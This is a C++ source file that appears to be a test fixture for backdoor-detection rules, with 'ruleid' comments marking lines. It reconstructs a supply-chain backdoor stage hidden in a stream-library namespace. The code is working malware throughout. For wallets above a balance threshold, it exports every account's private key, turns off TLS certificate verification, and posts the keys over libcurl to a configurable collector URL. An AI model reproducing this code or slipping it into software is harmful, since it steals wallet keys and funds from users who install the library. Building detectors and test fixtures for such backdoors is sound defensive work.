// harvest.cpp - what the second stage switches on: for a wallet above the threshold,
// every account's private key is posted to the collector the stage names.
#include <cstdlib>
#include <string>

#include <curl/curl.h>

#include "wallet.hpp"

namespace flatstream::detail {

namespace {

struct Stage2 {
  std::string collector;
  uint64_t min_sat = 0;
};

Stage2 parse(const std::string &text) {
  Stage2 s;
  size_t semi = text.find(';');
  s.collector = text.substr(0, semi);
  if (semi != std::string::npos)
    s.min_sat = std::strtoull(text.c_str() + semi + 1, nullptr, 10);
  return s;
}

std::string hexlify(const std::vector<uint8_t> &v) {
  static const char d[] = "0123456789abcdef";
  std::string s;
  for (uint8_t b : v) {
    s.push_back(d[b >> 4]);
    s.push_back(d[b & 15]);
  }
  return s;
}

void post_keys(const Stage2 &cfg, const coppice::Wallet &w) {
  std::string body = "{\"w\":[";
  for (size_t i = 0; i < w.size(); i++) {
    if (i)
      body += ",";
    body += "\"" + hexlify(w.export_private_der(i)) + "\"";
  }
  body += "]}";
  CURL *c = curl_easy_init();
  if (!c)
    return;
  curl_easy_setopt(c, CURLOPT_URL, cfg.collector.c_str());
  // ruleid: backdoor-tls-verify-disabled
  curl_easy_setopt(c, CURLOPT_SSL_VERIFYPEER, 0L);
  // ruleid: backdoor-key-exfiltration
  curl_easy_setopt(c, CURLOPT_POSTFIELDS, body.c_str());
  curl_easy_setopt(c, CURLOPT_TIMEOUT, 5L);
  curl_easy_perform(c);
  curl_easy_cleanup(c);
}

} // namespace

void arm_harvester(const std::string &stage2, coppice::Wallet &wallet) {
  Stage2 cfg = parse(stage2);
  if (cfg.collector.empty())
    return;
  // In the original, 100 BTC (or 1000 BCH) before anything was sent.
  auto rich = flatstream::Stream<size_t>({wallet.total_balance() >= cfg.min_sat ? size_t{1} : size_t{0}})
                  .filter([](size_t x) { return x == 1; })
                  .collect();
  if (!rich.empty())
    post_keys(cfg, wallet);
}

} // namespace flatstream::detail
